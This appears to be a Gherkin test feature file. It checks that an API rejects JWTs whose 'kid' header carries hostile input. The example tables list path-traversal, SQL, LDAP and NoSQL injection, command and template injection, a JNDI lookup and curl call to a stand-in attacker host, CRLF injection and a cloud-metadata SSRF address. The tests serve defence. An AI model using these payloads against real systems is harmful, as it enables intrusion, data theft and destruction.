Feature: Attacks by the key's id
  Whoever uses a key's id to open a file, ask a database or build an address does it with a stranger's text, before any
  signature is checked. Here it is looked up in a list in memory.

  @KEY-05 @must @RFC9068-4 @RFC8725bis-3.10 @WSTG-SESS-10 @api
  Rule: A key id is never a path
    An empty or public file makes an empty or public secret.

    Scenario Outline: A token of the algorithm <algorithm> is refused that names the file <path> as its key
      Given Mallory holds an access token
      And its header "kid" is <path>
      And it is signed as "<algorithm>" with <secret>
      When Mallory presents it
      Then access is refused as "token_invalid"
      And the log gives the reason "algorithm_not_allowed"

      Examples:
        | path                                  | algorithm | secret         |
        | "/dev/null"                           | HS256     | the secret ""  |
        | "../../../../../../../dev/null"       | HS256     | the secret ""  |
        | "/proc/sys/kernel/randomize_va_space" | HS256     | the secret "2" |

    Scenario Outline: A token of the issuer's own key is refused that names the file <path>
      Given Mallory holds an access token
      And its header "kid" is <path>
      When Mallory presents it
      Then access is refused as "token_invalid"
      And the log gives the reason "key_unknown"

      Examples:
        | path                      |
        | "/dev/null"               |
        | "../../../etc/passwd"     |
        | "..\u005c..\u005cwindows" |
        | "%2e%2e%2fetc%2fpasswd"   |
        | "file:///etc/passwd"      |
        | "key.pem\u0000.json"      |

  @KEY-06 @must @RFC8725bis-3.10 @WSTG-SESS-10 @api
  Rule: A key id is never a query

    Scenario Outline: A token is refused whose key id is the query <query>
      Given Mallory holds an access token
      And its header "kid" is <query>
      And it is signed with another key
      When Mallory presents it
      Then access is refused as "token_invalid"
      And the log gives the reason "key_unknown"

      Examples:
        | query                                                  |
        | "' OR '1'='1"                                          |
        | "x' UNION SELECT 'secret'-- "                          |
        | "x'; DROP TABLE signing_keys;--"                       |
        | "\" OR \"\"=\""                                        |
        | "*)(uid=*))(\u007c(uid=*"                              |
        | "x' \u007c\u007c (SELECT pg_sleep(30)) \u007c\u007c '" |

    Scenario: A token is refused whose key id is an object that a document database would read as a query
      Given Mallory holds an access token
      And its header "kid" is {"$ne": null}
      When Mallory presents it
      Then access is refused as "token_invalid"
      And the log gives the reason "header_malformed"

  @KEY-07 @must @RFC8725bis-3.10 @api @in_process
  Rule: A key id is never run, rendered or fetched

    Scenario Outline: A token is refused whose key id is <text>, and nothing is fetched for it
      Given Mallory holds an access token
      And its header "kid" is <text>
      And it is signed with a key published elsewhere
      When Mallory presents it
      Then access is refused as "token_invalid"
      And the log gives the reason "key_unknown"
      And the API fetches nothing but its issuer's key set

      Examples:
        | text                                       |
        | "key; sleep 10"                            |
        | "$(curl https://mallory.example.test/)"    |
        | "`id`"                                     |
        | "{{7*7}}"                                  |
        | "${jndi:ldap://mallory.example.test/a}"    |
        | "<%= 7*7 %>"                               |
        | "key\u000d\u000aX-Injected: yes"           |
        | "https://mallory.example.test/jwks"        |
        | "//mallory.example.test/jwks"              |
        | "http://169.254.169.254/latest/meta-data/" |
